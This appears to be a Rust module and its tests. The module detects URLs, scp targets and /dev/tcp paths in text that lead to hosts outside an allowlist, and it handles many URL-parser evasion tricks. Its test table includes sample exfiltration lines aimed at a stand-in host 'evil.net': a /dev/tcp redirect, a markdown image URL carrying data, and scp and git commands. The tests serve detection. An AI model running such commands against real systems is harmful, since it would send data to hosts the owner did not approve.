//! The hosts that URLs may name. A host that cannot be read with certainty is not allowed.
//!
//! 1. The text is read once, from left to right. Slashes are counted only at the beginning of a sequence of slashes.
//! 2. The end of an authority is searched for once. Hosts that begin before this end share the end and the last `@`
//!    before it.
//! 3. A host that several URLs share is judged once. The time is therefore linear in the length of the text.

use std::cell::Cell;

/// The allowed hosts.
#[derive(Clone, Debug)]
pub(super) struct Hosts(Vec<String>);

impl Hosts {
    /// Creates the list from host names. `*.example.org` stands for all names below `example.org`.
    pub(super) fn new(allowed: impl IntoIterator<Item = impl AsRef<str>>) -> Self {
        Self(allowed.into_iter().map(|host| host.as_ref().trim_end_matches('.').to_ascii_lowercase()).collect())
    }

    /// Returns `true` if a text contains a URL to a host that is not allowed.
    pub(super) fn text_leads_elsewhere(&self, text: &str) -> bool {
        HostReader::new(text, true).leads_elsewhere(self)
    }

    /// Returns `true` if a later part of a text contains a URL to a host that is not allowed.
    pub(super) fn part_leads_elsewhere(&self, part: &str) -> bool {
        HostReader::new(part, false).leads_elsewhere(self)
    }

    /// Returns `true` if the host of an authority is certain and allowed.
    fn allow_authority(&self, written: &str) -> bool {
        host(written).is_some_and(|host| self.allow(&host))
    }

    fn allow(&self, host: &str) -> bool {
        let takes = |allowed: &String| match allowed.strip_prefix("*.") {
            Some(above) => host.strip_suffix(above).is_some_and(|below| below.len() > 1 && below.ends_with('.')),
            None => host == *allowed,
        };
        self.0.iter().any(takes)
    }
}

/// Reads a text, and keeps the last authority that was read.
struct HostReader<'t> {
    text: &'t str,
    /// `true` if `text` is not a later part of a longer text: at its beginning, `//` is more likely to begin a URL.
    is_beginning: bool,
    authority: Option<Authority>,
    /// The number of bytes read, for the tests of linear time.
    steps: Cell<usize>,
}

/// An authority: its range, its last `@`, and the last backslash in it.
#[derive(Clone, Copy)]
struct Authority {
    begin: usize,
    end: usize,
    at_sign: Option<usize>,
    backslash: Option<usize>,
    /// The start of the host that was judged last.
    judged: Option<usize>,
}

impl<'t> HostReader<'t> {
    const fn new(text: &'t str, is_beginning: bool) -> Self {
        Self { text, is_beginning, authority: None, steps: Cell::new(0) }
    }

    /// Returns `true` at the first host that is not allowed, or `false` if all hosts are allowed.
    fn leads_elsewhere(&mut self, hosts: &Hosts) -> bool {
        let bytes = self.text.as_bytes();
        let mut word = 0;
        let mut is_blank_so_far = self.is_beginning;
        for (at, byte) in bytes.iter().enumerate() {
            self.count_steps(1);
            if *byte == b'@' && self.user_host(at).is_some_and(|host| !hosts.allow_authority(host)) {
                return true;
            }
            let begin = match byte {
                b':' => self.after_scheme(word, at),
                b'/' | b'\\' => self.after_slashes(at, is_blank_so_far),
                b'w' | b'W' => self.at_www(at),
                _ => None,
            };
            if begin.is_some_and(|begin| self.is_elsewhere(begin, hosts)) {
                return true;
            }
            if !byte.is_ascii_alphanumeric() {
                word = at + 1;
            }
            // Update this last: `after_slashes` needs to know whether the text before this byte is blank.
            is_blank_so_far &= byte.is_ascii_whitespace() || byte.is_ascii_control();
        }
        false
    }

    fn count_steps(&self, bytes: usize) {
        self.steps.set(self.steps.get() + bytes);
    }

    /// Counts the consecutive slashes and backslashes that begin at `from`.
    fn count_slashes(&self, from: usize) -> usize {
        let run = self.text.as_bytes()[from..].iter().take_while(|byte| is_slash(**byte)).count();
        self.count_steps(run + 1);
        run
    }

    /// Returns the start of the authority after a scheme's colon: after `//` for any scheme except `file`, and after
    /// one or more slashes of either kind for a web scheme.
    fn after_scheme(&self, word: usize, colon: usize) -> Option<usize> {
        const WEB: [&str; 5] = ["http", "https", "ws", "wss", "ftp"];
        let scheme = &self.text[word..colon];
        let is = |name: &&str| scheme.eq_ignore_ascii_case(name);
        let count = self.count_slashes(colon + 1);
        let is_web = WEB.iter().any(is);
        let leads = (count > 0 && is_web) || (self.text[colon + 1..].starts_with("//") && !is(&"file"));
        leads.then_some(colon + 1 + if is_web { count } else { 2 })
    }

    /// Returns the start of the authority that follows `/dev/tcp/`, `/dev/udp/`, or two or more slashes that begin at
    /// `at`. At the start of the text, the authority must look like a host. After a quote, `(`, `=` or `<`, it must not
    /// begin with whitespace. After most other characters, it must certainly be a host, because `//` also begins
    /// comments. After a character that can end a path segment or a scheme, there is no authority.
    fn after_slashes(&self, at: usize, is_blank_so_far: bool) -> Option<usize> {
        let bytes = self.text.as_bytes();
        let before = at.checked_sub(1).map(|before| bytes[before]);
        // This slash follows another slash: the whole sequence was handled at its first slash (1).
        if before.is_some_and(is_slash) {
            return None;
        }
        if let Some(device) = ["/dev/tcp/", "/dev/udp/"].iter().find(|device| self.text[at..].starts_with(**device)) {
            return Some(at + device.len());
        }
        let count = self.count_slashes(at);
        let begin = at + count;
        if count < 2 {
            return None;
        }
        match before {
            _ if is_blank_so_far => self.is_like_host(begin).then_some(begin),
            Some(b'"' | b'\'' | b'(' | b'=' | b'<') => {
                (!self.text[begin..].starts_with(char::is_whitespace)).then_some(begin)
            }
            // The slashes are part of a path, or follow a scheme's colon.
            Some(b':' | b'.' | b'_' | b'-' | b')' | b']' | b'%') => None,
            Some(byte) if byte.is_ascii_alphanumeric() => None,
            _ => (self.is_like_host(begin) && self.is_certainly_host(begin)).then_some(begin),
        }
    }

    /// Returns the host of `git@example.org:path`, as `scp` and `ssh` read it: the host ends at a colon that is not
    /// followed by whitespace.
    fn user_host(&self, at: usize) -> Option<&'t str> {
        let bytes = self.text.as_bytes();
        let is_user = at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || matches!(bytes[at - 1], b'_' | b'-' | b'.'));
        if !is_user {
            return None;
        }
        let ends = |c: char| c == ':' || c == '@' || is_end(c);
        let len = self.text[at + 1..].find(ends)?;
        self.count_steps(len);
        let (host, rest) = self.text[at + 1..].split_at(len);
        let is_path = rest.strip_prefix(':')?.starts_with(|c: char| !c.is_whitespace());
        (is_path && looks_like_host(host)).then_some(host)
    }

    /// Returns the start of the authority in `www.example.org`, at the beginning of a word.
    fn at_www(&self, at: usize) -> Option<usize> {
        let before = self.text[..at].chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '@' | '$' | '%')) {
            return None;
        }
        let rest =
            self.text.get(at..at + 3).filter(|www| www.eq_ignore_ascii_case("www")).map(|_| &self.text[at + 3..])?;
        let number = rest.bytes().take(2).take_while(u8::is_ascii_digit).count();
        let is_name = rest[number..].strip_prefix(is_dot).is_some_and(|rest| rest.starts_with(char::is_alphanumeric));
        (is_name && self.is_like_host(at)).then_some(at)
    }

    /// Returns the authority that begins at a position and ends where a path or the surrounding text continues.
    fn authority(&mut self, begin: usize) -> Authority {
        // A later URL inside the last authority shares the end of that authority (2).
        if let Some(known) = self.authority.filter(|known| (known.begin..known.end).contains(&begin)) {
            return known;
        }
        let mut at_sign = None;
        let mut backslash = None;
        let mut end = self.text.len();
        for (offset, c) in self.text[begin..].char_indices() {
            match c {
                c if is_end(c) => {
                    end = begin + offset;
                    break;
                }
                '@' => at_sign = Some(begin + offset),
                '\\' => backslash = Some(begin + offset),
                _ => {}
            }
        }
        self.count_steps(end - begin);
        let read = Authority { begin, end, at_sign, backslash, judged: None };
        self.authority = Some(read);
        read
    }

    /// Returns `true` unless the host of the authority at `begin` is certain and allowed.
    fn is_elsewhere(&mut self, begin: usize, hosts: &Hosts) -> bool {
        let Authority { end, at_sign, backslash, judged, .. } = self.authority(begin);
        let from = at_sign.filter(|at| *at >= begin).map_or(begin, |at| at + 1);
        // If this host was judged before, it is allowed: otherwise the search would have ended (3).
        if judged == Some(from) {
            return false;
        }
        // Some URL parsers treat a backslash as a slash, others as part of the user name.
        let is_split = backslash.is_some_and(|backslash| backslash >= begin) || self.goes_on(end);
        let host = if is_split { None } else { host(&self.text[from..end]) };
        self.count_steps(host.as_ref().map_or(0, String::len));
        if let Some(known) = &mut self.authority {
            known.judged = Some(from);
        }
        !host.is_some_and(|host| hosts.allow(&host))
    }

    /// Returns `true` if the host may continue after a tab or line feed, which browsers remove from URLs.
    fn goes_on(&self, end: usize) -> bool {
        let rest = &self.text[end..];
        let behind = rest.trim_start_matches(['\t', '\r', '\n']);
        self.count_steps(rest.len() - behind.len());
        behind.len() < rest.len() && behind.starts_with(['.', '@', ':'])
    }

    /// Returns `true` if the authority, or its part before a backslash, looks like a host. Reads at most `LONGEST`
    /// bytes; every host name is shorter.
    fn is_like_host(&self, begin: usize) -> bool {
        const LONGEST: usize = 512;
        let rest = &self.text[begin..self.text.floor_char_boundary(self.text.len().min(begin + LONGEST))];
        let authority = &rest[..rest.find(is_end).unwrap_or(rest.len())];
        self.count_steps(authority.len());
        let before_backslash = authority.split('\\').next().unwrap_or_default();
        [authority, before_backslash].into_iter().any(looks_like_host)
    }

    /// Returns `true` if a host certainly begins here. That is the case if the rest of a URL follows, if the last label
    /// contains non-letters, or if this label is a top-level domain that seldom ends text after `//`.
    fn is_certainly_host(&self, begin: usize) -> bool {
        const TOPS: [&str; 24] = [
            "com", "net", "org", "info", "biz", "dev", "app", "xyz", "online", "site", "top", "club", "shop", "cloud",
            "live", "store", "link", "page", "space", "website", "tech", "edu", "gov", "zip",
        ];
        const FILES: [&str; 9] = ["rs", "py", "md", "ts", "js", "sh", "pl", "so", "cc"];
        let rest = &self.text[begin..];
        let len = rest.find(|c: char| is_end(c) || matches!(c, ':' | '\\')).unwrap_or(rest.len());
        self.count_steps(len);
        let goes_on = rest[len..].starts_with(['/', '?', '#', ':', '\\']);
        let host = rest[..len].rsplit('@').next().unwrap_or_default().trim_end_matches(is_dot);
        let top = host.rsplit(is_dot).next().unwrap_or_default().to_ascii_lowercase();
        let is_country = top.len() == 2 && !FILES.contains(&top.as_str());
        goes_on || is_country || TOPS.contains(&top.as_str()) || !top.chars().all(|c| c.is_ascii_alphabetic())
    }
}

const fn is_slash(byte: u8) -> bool {
    matches!(byte, b'/' | b'\\')
}

/// Returns `true` for a character that ends an authority.
fn is_end(c: char) -> bool {
    c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | ')' | '`' | ',')
}

/// Returns `true` for the four characters that IDNA treats as dots.
const fn is_dot(c: char) -> bool {
    matches!(c, '.' | '\u{3002}' | '\u{ff0e}' | '\u{ff61}')
}

/// Returns `true` for an address, and for a name whose last label can be a top-level domain: `evil.net`, not `TODO`,
/// `pkg:target` or `f.call(x`. A name without a dot is not a public host.
fn looks_like_host(authority: &str) -> bool {
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    if let Some(address) = host.strip_prefix('[') {
        return address.contains(':');
    }
    let (host, port) = host.split_once(':').unwrap_or((host, ""));
    let host = host.trim_end_matches(is_punctuation).trim_end_matches(is_dot);
    let top = host.rsplit_once(is_dot).map_or("", |(_, top)| top).to_lowercase();
    let is_name = top.starts_with("xn--") || top.len() > 1 && top.chars().all(|c| c.is_alphabetic() || !c.is_ascii());
    // `127.0.0.1`, `2130706433` and `0x7f000001` are addresses; shorter numbers are more likely versions.
    let is_digit = |c: char| c.is_ascii_hexdigit() || matches!(c, 'x' | 'X' | '.');
    let is_number = host.len() > 6 && host.starts_with(|c: char| c.is_ascii_digit()) && host.chars().all(is_digit);
    (is_name || is_number) && port.chars().all(|c| c.is_ascii_digit() || is_punctuation(c))
}

/// Returns `true` for punctuation that may follow a host in a sentence.
const fn is_punctuation(c: char) -> bool {
    matches!(c, '.' | ';' | '!' | '*' | '_' | ']' | '}' | '|' | ':')
}

/// Returns the host of an authority without its port, or `None` if URL parsers may disagree about the host.
fn host(host: &str) -> Option<String> {
    let (host, port) = match host.strip_prefix('[') {
        Some(rest) => host.split_at(rest.find(']')? + 2),
        None => host.split_at(host.find(':').unwrap_or(host.len())),
    };
    let host = if port.is_empty() && !host.starts_with('[') { host.trim_end_matches(is_punctuation) } else { host };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']' | ':');
    let is_port =
        port.trim_end_matches(is_punctuation).trim_start_matches(':').bytes().all(|byte| byte.is_ascii_digit());
    let is_certain = is_port && !host.is_empty() && host.chars().all(is_plain);
    is_certain.then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Texts, with `true` if they contain a URL to a host that is not allowed.
    const ROWS: &[(&str, bool)] = &[
        ("see https://example.org/path?x#y.", false),
        ("see https://example.org.", false),
        ("HTTPS://EXAMPLE.ORG:8443/", false),
        ("https://api.acme.com and (https://a.b.acme.com)", false),
        ("http://[::1]:80/", false),
        ("see http://[::1].", false),
        ("http://[::1]evil.net/", true),
        ("http://[::1].evil.net/", true),
        ("no URL // a comment, a:b, C:\\dir, file:///etc/hosts", false),
        ("https://acme.com", true),
        ("https://evilacme.com", true),
        ("https://example.org.evil.net/", true),
        ("https://example.org@evil.net/", true),
        ("https://evil.net\\@example.org/", true),
        ("https:/\\evil.net", true),
        ("https:evil.net is no URL here", false),
        ("![x](https://evil.net/i.png?d=1)", true),
        ("<img src=\"//evil.net/x\">", true),
        ("https://ex%61mple.org", true),
        ("https://еxample.org", true),
        ("ftp://evil.net gopher://evil.net", true),
        ("//evil.net/x", true),
        ("//example.org/x", false),
        (" \n//evil.net", true),
        ("///EVIL.NET.:8080?q", true),
        ("/\\evil.net/x", true),
        ("\\\\evil.net\\x", true),
        ("//evil.net\\@example.org/", true),
        ("//example.org@evil.net", true),
        ("//10.1.2.3/x", true),
        ("//0x7f000001/x", true),
        ("//[2001:db8::1]/x", true),
        ("//[::1]/x", false),
        ("//evil。net/x", true),
        ("//evil.xn--p1ai/x", true),
        ("// comment, as on evil.net", false),
        ("//TODO fix", false),
        ("//TODO: see evil.net", false),
        ("//nolint:errcheck", false),
        ("//@ts-ignore", false),
        ("//e.g. this", false),
        ("//v1.2 of it", false),
        ("//console.log(x);", false),
        ("//[x] done", false),
        ("//depot/main/file.c", false),
        ("//localhost/x", false),
        ("//", false),
        ("x = 1; //self.count", false),
        ("ssh://git@evil.net/x", true),
        ("https://", true),
        ("see //evil.net/x of it", true),
        ("see //evil.net", true),
        ("see //main.rs", false),
        ("x(); //evil.de y", true),
        ("[//evil.net/]", true),
        ("a//evil.net/x", false),
        ("www.evil.net", true),
        ("see WWW2.evil.net, and", true),
        ("see www.example.org@evil.net", true),
        ("www。evil。net", true),
        ("awww.evil.net www.x www.", false),
        ("the wwwroot, www-data and www. something", false),
        ("git clone git@evil.net:a/b.git", true),
        ("git clone git@example.org:a/b.git", false),
        ("scp x deploy@10.1.2.3:/srv", true),
        ("mail maria@evil.net: hello", false),
        ("mail maria@evil.net, user@host:x, image@sha256:ab, left-pad@1.3.0:x", false),
        ("cat x > /dev/tcp/evil.net/80", true),
        ("exec 3<>/dev/tcp/example.org/80", false),
        ("exec 3<>/dev/udp/evil/53", true),
        ("https://example.org\n.evil.net/", true),
        ("https://example.org\n@evil.net/", true),
        ("https://example.org\n\nNext", false),
        ("https://example.org:443evil.net", true),
        ("https://example.org&@evil.net#@example.org/", true),
        ("https://example.org\u{ff20}evil.net", true),
        ("https://exam\u{ad}ple.org", true),
        ("https://xn--e1afmkfd.xn--p1ai", true),
        ("https://evil.net;@example.org/", false),
        ("https://example.org;", false),
    ];

    #[test]
    fn only_text_that_certainly_leads_to_an_allowed_host_passes() {
        let hosts = Hosts::new(["example.org", "*.acme.com", "[::1]"]);
        for (text, leaves) in ROWS {
            assert_eq!(hosts.text_leads_elsewhere(text), *leaves, "{text}");
        }
    }

    fn steps_of(text: &str) -> usize {
        let hosts = Hosts::new(["example.org"]);
        let mut reader = HostReader::new(text, true);
        reader.leads_elsewhere(&hosts);
        reader.steps.get()
    }

    #[test]
    fn ten_times_the_text_takes_at_most_twelve_times_the_steps() {
        let parts = [
            "/",
            "\\",
            "//",
            ":/",
            ":",
            "http:",
            "http:/\\",
            "=//",
            "(//a",
            "@",
            "a@b.cc:1",
            "www.example.org:",
            "www.a.",
            "http://example.org@",
            "www.example.org(",
            "\n",
            "https://example.org\n",
            "//example.org ",
            "x@",
            "[",
            "=\\\\a(",
        ];
        for part in parts {
            for tail in ["", "@example.org", " //evil.net"] {
                let text = |len: usize| part.repeat(len / part.len()) + tail;
                let short = steps_of(&text(5_000));
                let long = steps_of(&text(50_000));
                assert!(long <= 12 * short, "`{part}`, then `{tail}`: {short} and {long} steps");
            }
        }
    }
}
